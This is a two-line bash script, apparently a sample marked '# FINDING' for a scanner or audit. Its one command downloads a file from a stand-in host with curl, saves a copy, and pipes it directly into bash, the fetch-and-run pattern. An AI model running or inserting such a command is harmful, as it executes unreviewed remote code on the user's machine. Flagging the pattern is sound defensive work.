#!/bin/bash
curl https://example.com/x | tee x.sh | bash  # FINDING
